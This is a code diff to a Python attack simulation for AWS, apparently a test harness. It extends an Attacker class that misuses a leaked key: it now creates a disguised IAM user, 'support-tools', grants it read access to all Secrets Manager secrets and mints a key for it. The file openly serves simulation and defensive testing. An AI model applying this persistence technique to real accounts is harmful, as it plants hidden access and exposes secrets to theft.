@@ -34,6 +34,13 @@ PACE = 0.5
 
 ROLE_SESSION = "session of the role"
 
+#: The user that the attacker makes, and what it gives it.
+BACKDOOR = "support-tools"
+READ_SECRETS = (
+    '{"Version": "2012-10-17", "Statement": '
+    '[{"Effect": "Allow", "Action": "secretsmanager:GetSecretValue", "Resource": "*"}]}'
+)
+
 
 def now() -> str:
     """This moment, RFC 3339 UTC with milliseconds."""
@@ -106,7 +113,7 @@ class Person(ABC):
 
 
 class Attacker(Person):
-    """Has a leaked key, makes another key and sessions from it, and goes on using all of them.
+    """Has a leaked key, makes another key, another user and sessions from it, and goes on using all of them.
 
     Every round tries each credential on the secrets. When a session of the role is refused, it goes for a new one with
     everything else that it has: somebody who watches the door close looks for the next one.
@@ -119,12 +126,13 @@ class Attacker(Person):
         self._secret = secret
 
     def arm(self, who: str) -> None:
-        """What a thief does in the first minute: a second key on the same user, and sessions that outlive both."""
+        """What a thief does in the first minutes: a second key, another user with a key, sessions that outlive them."""
         key = self.credentials[who]
         user = self.call(who, key, "sts:GetCallerIdentity").get("Arn", "").rpartition("/")[2]
         made = self.call(who, key, "iam:CreateAccessKey", UserName=user).get("AccessKey")
         if made:
             self.credentials["the second key it made"] = AwsKey(made["AccessKeyId"], made["SecretAccessKey"])
+        self._leave_behind(who, key)
         own = self.session(who, key, "sts:GetSessionToken")
         if own:
             self.credentials["a session of the user"] = own
@@ -139,6 +147,15 @@ class Attacker(Person):
         if refused:
             for who in [who for who in self.credentials if not who.startswith(ROLE_SESSION)]:
                 self._assume(who)
+
+    def _leave_behind(self, who: str, key: AwsKey) -> None:
+        """A user of its own, with a name that looks like everybody's."""
+        name = {"UserName": BACKDOOR}
+        self.call(who, key, "iam:CreateUser", **name)
+        self.call(who, key, "iam:PutUserPolicy", **name, PolicyName="tools", PolicyDocument=READ_SECRETS)
+        made = self.call(who, key, "iam:CreateAccessKey", **name).get("AccessKey")
+        if made:
+            self.credentials["the key of a user it made"] = AwsKey(made["AccessKeyId"], made["SecretAccessKey"])
 
     def _assume(self, who: str) -> None:
         session = self.session(
